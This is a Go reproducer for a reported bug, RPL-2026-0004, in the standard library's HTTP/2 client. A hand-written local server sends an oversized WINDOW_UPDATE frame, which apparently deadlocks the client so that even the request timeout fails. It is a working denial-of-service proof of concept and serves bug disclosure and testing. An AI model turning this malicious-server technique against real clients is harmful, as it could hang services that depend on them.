// Program main reproduces RPL-2026-0004 with the HTTP/2 client of the standard library itself: a server of ours,
// which writes its frames by hand, raises the window of the stream beyond 2^31-1. The read loop of the client ends the
// stream with a helper that locks the mutex of the connection, which the read loop holds already. Even the timeout of
// the request does not get it back, because cleaning up needs the mutex too.
package main

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"net/http"
	"os"
	"runtime/pprof"
	"time"
)

func frame(kind byte, stream uint32, payload []byte) []byte {
	b := append([]byte{0, 0, byte(len(payload)), kind, 0}, 0, 0, 0, byte(stream))
	return append(b, payload...)
}

// badServer answers the first request with an oversized WINDOW_UPDATE.
func badServer(conn net.Conn) {
	io.ReadFull(conn, make([]byte, len("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")))
	conn.Write(frame(4, 0, nil)) // SETTINGS
	for head := make([]byte, 9); ; {
		if _, err := io.ReadFull(conn, head); err != nil {
			return
		}
		length := int64(head[0])<<16 | int64(binary.BigEndian.Uint16(head[1:3]))
		io.CopyN(io.Discard, conn, length)
		if head[3] == 1 { // HEADERS
			conn.Write(frame(8, 1, []byte{0x7f, 0xff, 0xff, 0xff})) // WINDOW_UPDATE
		}
	}
}

func main() {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go badServer(conn)
		}
	}()
	tr := &http.Transport{Protocols: new(http.Protocols)}
	tr.Protocols.SetUnencryptedHTTP2(true)
	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "GET", "http://"+ln.Addr().String()+"/", nil)
	done := make(chan error, 1)
	go func() { _, err := tr.RoundTrip(req); done <- err }()
	select {
	case err := <-done:
		os.Stderr.WriteString("the request ended: " + err.Error() + "\n")
	case <-time.After(time.Second):
		os.Stderr.WriteString("1 s later the request with a timeout of 200 ms has not ended\n")
		pprof.Lookup("goroutine").WriteTo(os.Stderr, 2)
		os.Exit(1)
	}
}
